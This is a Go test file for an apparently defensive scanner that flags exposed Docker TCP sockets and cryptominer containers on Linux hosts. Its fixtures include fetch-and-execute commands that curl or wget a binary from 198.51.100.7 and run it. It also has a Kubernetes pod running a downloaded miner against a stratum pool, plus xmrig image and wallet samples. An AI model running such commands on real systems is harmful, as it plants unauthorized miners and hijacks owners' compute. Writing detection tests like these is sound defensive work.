package checks

import (
	"context"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/minerguard/minerguard/internal/findings"
	"github.com/minerguard/minerguard/internal/host"
	"github.com/minerguard/minerguard/internal/intel"
)

const ctrID = "4f1c0a7e9b2d4c6e8f0a1b3c5d7e9f1a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e"
const ctrID2 = "9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b"

// ctrEnv builds an offline host from literal files (host path -> content).
func ctrEnv(t *testing.T, files map[string]string) *Env {
	t.Helper()
	root := t.TempDir()
	for hp, c := range files {
		dst := filepath.Join(root, filepath.FromSlash(hp))
		if err := os.MkdirAll(filepath.Dir(dst), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(dst, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	h, err := host.Offline(root)
	if err != nil {
		t.Fatal(err)
	}
	return NewEnv(h, intel.MustLoad(), nil, nil)
}

func runContainers(t *testing.T, env *Env) ([]findings.Finding, error) {
	t.Helper()
	c, ok := Lookup("containers.config")
	if !ok {
		t.Fatal("containers.config not registered")
	}
	return c.Run(context.Background(), env)
}

type ctrWant struct {
	rule      string
	sev       findings.Severity
	path      string
	line      int
	container string
}

func ctrGot(fs []findings.Finding) []ctrWant {
	var out []ctrWant
	for _, f := range fs {
		out = append(out, ctrWant{f.Rule, f.Severity, f.Evidence.Path, f.Evidence.Line, f.Evidence.Container})
	}
	return out
}

func TestContainersIntelLoads(t *testing.T) {
	var ci containersIntel
	if err := intel.MustLoad().Section("containers", &ci); err != nil {
		t.Fatal(err)
	}
	if len(ci.ImageKeywords) == 0 || len(ci.UnitFiles) == 0 || len(ci.DaemonFiles) == 0 {
		t.Fatalf("containers.json incomplete: %+v", ci)
	}
}

func TestDockerAPIExposure(t *testing.T) {
	stockUnit := "[Unit]\nDescription=Docker\n[Service]\nType=notify\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n"
	cases := []struct {
		name  string
		files map[string]string
		want  []ctrWant
	}{
		{"stock debian unit", map[string]string{"/lib/systemd/system/docker.service": stockUnit,
			"/lib/systemd/system/docker.socket": "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\n"}, nil},
		{"daemon.json all interfaces", map[string]string{"/etc/docker/daemon.json": "{\n  \"log-driver\": \"json-file\",\n  \"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]\n}\n"},
			[]ctrWant{{"containers.config.docker_tcp", findings.High, "/etc/docker/daemon.json", 3, ""}}},
		{"daemon.json tlsverify", map[string]string{"/etc/docker/daemon.json": `{"hosts": ["tcp://0.0.0.0:2376"], "tlsverify": true, "tlscacert": "/etc/docker/ca.pem"}`}, nil},
		{"daemon.json tls without verify", map[string]string{"/etc/docker/daemon.json": `{"hosts": ["tcp://10.0.0.5:2376"], "tls": true}`},
			[]ctrWant{{"containers.config.docker_tcp", findings.High, "/etc/docker/daemon.json", 1, ""}}},
		{"drop-in override", map[string]string{"/lib/systemd/system/docker.service": stockUnit,
			"/etc/systemd/system/docker.service.d/override.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// \\\n  -H tcp://:2375\n"},
			[]ctrWant{{"containers.config.docker_tcp", findings.High, "/etc/systemd/system/docker.service.d/override.conf", 3, ""}}},
		{"drop-in tlsverify flag", map[string]string{
			"/etc/systemd/system/docker.service.d/tls.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd --tlsverify --tlscacert=/ca.pem -H=tcp://0.0.0.0:2376\n"}, nil},
		{"default file loopback", map[string]string{"/etc/default/docker": "# Docker Upstart and SysVinit configuration file\nDOCKER_OPTS=\"-H tcp://127.0.0.1:2375 -H unix:///var/run/docker.sock\"\n"},
			[]ctrWant{{"containers.config.docker_tcp_local", findings.Low, "/etc/default/docker", 2, ""}}},
		{"socket port only", map[string]string{"/etc/systemd/system/docker.socket": "[Socket]\nListenStream=/run/docker.sock\nListenStream=2375\n"},
			[]ctrWant{{"containers.config.docker_tcp", findings.High, "/etc/systemd/system/docker.socket", 3, ""}}},
		{"environment tls verify", map[string]string{"/etc/systemd/system/docker.service": "[Service]\nEnvironment=\"DOCKER_TLS_VERIFY=1\"\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2376\n"}, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs, err := runContainers(t, ctrEnv(t, c.files))
			if err != nil {
				t.Fatal(err)
			}
			if got := ctrGot(fs); !reflect.DeepEqual(got, c.want) {
				t.Fatalf("got %+v\nwant %+v", got, c.want)
			}
			for _, f := range fs {
				if f.Signal != findings.SignalHardening || f.Evidence.Details["listen"] == "" || f.Evidence.Content == "" {
					t.Fatalf("bad evidence: %+v", f)
				}
			}
		})
	}
}

func dockerCfg(id, name, image, path string, args []string, env ...string) string {
	q := func(ss []string) string {
		var b strings.Builder
		b.WriteString("[")
		for i, s := range ss {
			if i > 0 {
				b.WriteString(",")
			}
			b.WriteString(`"` + strings.ReplaceAll(s, `"`, `\"`) + `"`)
		}
		return b.String() + "]"
	}
	return `{"ID":"` + id + `","Name":"/` + name + `","Path":"` + path + `","Args":` + q(args) +
		`,"State":{"Running":true},"Config":{"Image":"` + image + `","Env":` + q(env) + `,"Cmd":` + q(args) + `,"Entrypoint":null}}`
}

func TestMinerContainers(t *testing.T) {
	dc := func(id string) string { return "/var/lib/docker/containers/" + id + "/config.v2.json" }
	kubeAPIServer := `apiVersion: v1
kind: Pod
metadata:
  name: kube-apiserver
  namespace: kube-system
spec:
  containers:
  - command:
    - kube-apiserver
    - --advertise-address=10.0.0.10
    - --etcd-servers=https://127.0.0.1:2379
    image: registry.k8s.io/kube-apiserver:v1.29.0
    name: kube-apiserver
    resources:
      requests:
        cpu: 250m
  hostNetwork: true
`
	cases := []struct {
		name    string
		files   map[string]string
		want    []ctrWant
		wantErr string
	}{
		{"benign nginx", map[string]string{dc(ctrID): dockerCfg(ctrID, "web", "nginx:1.25", "/docker-entrypoint.sh", []string{"nginx", "-g", "daemon off;"})}, nil, ""},
		{"xmrig image with pool and wallet", map[string]string{dc(ctrID): dockerCfg(ctrID, "w", "docker.io/xmrig/xmrig:latest", "xmrig",
			[]string{"-o", "stratum+tcp://pool.example.org:3333", "-u", idWallet})},
			[]ctrWant{{"containers.config.miner", findings.Critical, dc(ctrID), 0, ctrID}}, ""},
		{"shell script runs kinsing", map[string]string{dc(ctrID): dockerCfg(ctrID, "x", "ubuntu:22.04", "/bin/sh",
			[]string{"-c", "cd /tmp; curl -s http://198.51.100.7/k -o kdevtmpfsi; chmod +x kdevtmpfsi; ./kdevtmpfsi"})},
			[]ctrWant{{"containers.config.miner", findings.High, dc(ctrID), 0, ctrID}}, ""},
		{"pool in env only", map[string]string{dc(ctrID): dockerCfg(ctrID, "x", "alpine:3", "/start", nil, "POOL=stratum+ssl://203.0.113.9:443")},
			[]ctrWant{{"containers.config.miner", findings.High, dc(ctrID), 0, ctrID}}, ""},
		{"moved data-root and a broken config", map[string]string{
			"/etc/docker/daemon.json":                              `{"data-root": "/srv/docker"}`,
			"/srv/docker/containers/" + ctrID + "/config.v2.json":  dockerCfg(ctrID, "m", "someone/monero-miner:v2", "/run.sh", nil),
			"/srv/docker/containers/" + ctrID2 + "/config.v2.json": `{"ID": 5`,
		}, []ctrWant{{"containers.config.miner", findings.High, "/srv/docker/containers/" + ctrID + "/config.v2.json", 0, ctrID}},
			"/srv/docker/containers/" + ctrID2 + "/config.v2.json"},
		{"podman with OCI args", map[string]string{
			"/var/lib/containers/storage/overlay-containers/containers.json":                    `[{"id":"` + ctrID + `","names":["calc"],"image":"abc","metadata":"{\"image-name\":\"quay.io/acme/calc:1\",\"name\":\"calc\"}"}]`,
			"/var/lib/containers/storage/overlay-containers/" + ctrID + "/userdata/config.json": `{"ociVersion":"1.0.2","process":{"args":["/usr/bin/calc","--donate-level","1","-o","pool.minexmr.com:443"],"env":["PATH=/usr/bin"]}}`,
		}, []ctrWant{{"containers.config.miner", findings.Critical, "/var/lib/containers/storage/overlay-containers/" + ctrID + "/userdata/config.json", 0, ctrID}}, ""},
		{"rootless podman image only", map[string]string{
			"/home/alice/.local/share/containers/storage/overlay-containers/containers.json": `[{"id":"` + ctrID2 + `","names":["x"],"image":"abc","metadata":"{\"image-name\":\"docker.io/library/xmrig:6\"}"}]`,
		}, []ctrWant{{"containers.config.miner", findings.High, "/home/alice/.local/share/containers/storage/overlay-containers/containers.json", 0, ctrID2}}, ""},
		{"static pods", map[string]string{
			"/etc/kubernetes/manifests/kube-apiserver.yaml": kubeAPIServer,
			"/etc/kubernetes/manifests/metrics.yaml": `apiVersion: v1
kind: Pod
metadata:
  name: node-metrics
spec:
  containers:
    - name: agent
      image: "docker.io/library/busybox:1.36"
      command: ["/bin/sh", "-c"]
      args:
        - |
          wget -qO- http://198.51.100.7/x > /tmp/.x
          /tmp/.x -o stratum+tcp://198.51.100.7:3333 -u worker1
      resources: {}
`,
		}, []ctrWant{{"containers.config.miner", findings.High, "/etc/kubernetes/manifests/metrics.yaml", 0, "node-metrics/agent"}}, ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			fs, err := runContainers(t, ctrEnv(t, c.files))
			if c.wantErr == "" && err != nil {
				t.Fatal(err)
			}
			if c.wantErr != "" && (err == nil || !strings.Contains(err.Error(), c.wantErr)) {
				t.Fatalf("err = %v, want one naming %s", err, c.wantErr)
			}
			if got := ctrGot(fs); !reflect.DeepEqual(got, c.want) {
				t.Fatalf("got %+v\nwant %+v\n%+v", got, c.want, fs)
			}
			for _, f := range fs {
				if f.Signal != findings.SignalIdentity || len(f.Evidence.Match) == 0 || f.Evidence.Details["runtime"] == "" {
					t.Fatalf("bad finding %+v", f)
				}
			}
		})
	}
}

func TestParsePodYAML(t *testing.T) {
	in := `# comment
apiVersion: v1
kind: Pod
metadata:
  name: etcd
spec:
  initContainers:
  - name: init
    image: busybox
    command: ['sh', '-c', 'echo "hi, there"']
  containers:
  - name: etcd
    image: registry.k8s.io/etcd:3.5.10-0
    command:
    - etcd
    - --data-dir=/var/lib/etcd   # inline comment
    env:
    - name: ETCD_X
      value: "1"
    volumeMounts:
    - mountPath: /var/lib/etcd
      name: etcd-data
  - image: x/y
    name: side
    args:
    - "-o"
    - stratum+tcp://h:1
---
metadata:
  name: second
spec:
  containers:
  - name: a
    image: b
`
	got := ParsePodYAML([]byte(in))
	want := []ContainerSpec{
		{Runtime: "kubernetes", Name: "etcd/init", Image: "busybox", Argv: []string{"sh", "-c", `echo "hi, there"`}},
		{Runtime: "kubernetes", Name: "etcd/etcd", Image: "registry.k8s.io/etcd:3.5.10-0", Argv: []string{"etcd", "--data-dir=/var/lib/etcd"}, Env: []string{"ETCD_X=1"}},
		{Runtime: "kubernetes", Name: "etcd/side", Image: "x/y", Argv: []string{"-o", "stratum+tcp://h:1"}},
		{Runtime: "kubernetes", Name: "second/a", Image: "b", Argv: []string{}},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got  %#v\nwant %#v", got, want)
	}
}

func TestShellWordsAndDockerdFlags(t *testing.T) {
	cases := []struct {
		in    string
		hosts []string
		tls   bool
	}{
		{`/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock`, []string{"fd://"}, false},
		{`dockerd -H "tcp://0.0.0.0:2375" --host=unix:///x -Htcp://1.2.3.4:1`, []string{"tcp://0.0.0.0:2375", "unix:///x", "tcp://1.2.3.4:1"}, false},
		{`dockerd --tlsverify -H=tcp://0.0.0.0:2376`, []string{"tcp://0.0.0.0:2376"}, true},
		{`dockerd --host 'tcp://[::]:2375' -H`, []string{"tcp://[::]:2375"}, false},
	}
	for _, c := range cases {
		h, tls := DockerdFlags(ShellWords(c.in)[1:])
		if !reflect.DeepEqual(h, c.hosts) || tls != c.tls {
			t.Errorf("%s: got %q %v", c.in, h, tls)
		}
	}
	scopes := map[string]string{
		"tcp://0.0.0.0:2375": "network", "tcp://:2375": "network", "tcp://[::]:2375": "network",
		"tcp://127.0.0.1:2375": "loopback", "tcp://localhost:2375": "loopback", "tcp://[::1]:2375": "loopback",
		"unix:///run/docker.sock": "", "fd://": "", "tcp://2375": "network", "192.168.1.5:2375": "network", "": "",
	}
	for in, want := range scopes {
		if got, _ := DockerTCPScope(in); got != want {
			t.Errorf("DockerTCPScope(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestContainersBadFiles(t *testing.T) {
	root := t.TempDir()
	mk := func(p string) string {
		d := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(d), 0o755); err != nil {
			t.Fatal(err)
		}
		return d
	}
	// A cyclic link, a directory where a file should be, and an oversized file.
	if err := os.Symlink("/etc/docker/daemon.json", mk("etc/docker/daemon.json")); err != nil {
		t.Fatal(err)
	}
	if err := os.MkdirAll(mk("etc/default/docker"), 0o755); err != nil {
		t.Fatal(err)
	}
	big := make([]byte, maxContainerFile+10)
	if err := os.WriteFile(mk("var/lib/docker/containers/"+ctrID+"/config.v2.json"), big, 0o644); err != nil {
		t.Fatal(err)
	}
	h, err := host.Offline(root)
	if err != nil {
		t.Fatal(err)
	}
	fs, err := runContainers(t, NewEnv(h, intel.MustLoad(), nil, nil))
	if len(fs) != 0 {
		t.Fatalf("findings from bad files: %+v", fs)
	}
	if err == nil {
		t.Fatal("no error for unreadable files")
	}
	for _, want := range []string{"/etc/docker/daemon.json", "/etc/default/docker: not a regular file", "config.v2.json: larger than"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not mention %q", err, want)
		}
	}
	if strings.Contains(err.Error(), root) {
		t.Errorf("error leaks the real root: %v", err)
	}
}

func FuzzContainerConfigs(f *testing.F) {
	f.Add([]byte(dockerCfg(ctrID, "n", "xmrig/xmrig", "xmrig", []string{"-o", "stratum+tcp://a:1"})))
	f.Add([]byte(`[{"id":"x","names":["a"],"metadata":"{\"image-name\":\"i\"}"}]`))
	f.Add([]byte(`{"hosts":"tcp://0.0.0.0:2375","tlsverify":false,"data-root":"/d"}`))
	f.Add([]byte("[Service]\nExecStart=/usr/bin/dockerd -H tcp://:2375 \\\n --x\nListenStream=2375\n"))
	f.Add([]byte("metadata:\n  name: p\nspec:\n  containers:\n  - name: a\n    args:\n    - |\n      x y\n    command: [\"a\", 'b']\n"))
	f.Add([]byte(`{"process":{"args":"x"}}`))
	db := intel.MustLoad()
	f.Fuzz(func(t *testing.T, b []byte) {
		specs := ParsePodYAML(b)
		if s, err := ParsePodJSON(b); err == nil {
			specs = append(specs, s...)
		}
		if s, err := ParseDockerContainer(b); err == nil {
			specs = append(specs, s)
		}
		if s, err := ParsePodmanContainers(b); err == nil {
			specs = append(specs, s...)
		}
		if argv, env, err := ParseOCIProcess(b); err == nil {
			specs = append(specs, ContainerSpec{Argv: argv, Env: env})
		}
		for i := range specs {
			minerContainerFinding(db, []string{"xmrig"}, &specs[i])
		}
		if c, err := ParseDockerDaemonJSON(b); err == nil {
			for _, h := range c.Hosts {
				DockerTCPScope(h)
			}
		}
		ls, _ := dockerUnitListens("/u", b)
		ls2, _ := dockerEnvFileListens("/e", b)
		dockerListenFindings(append(ls, ls2...))
		lineContaining(b, string(b))
	})
}
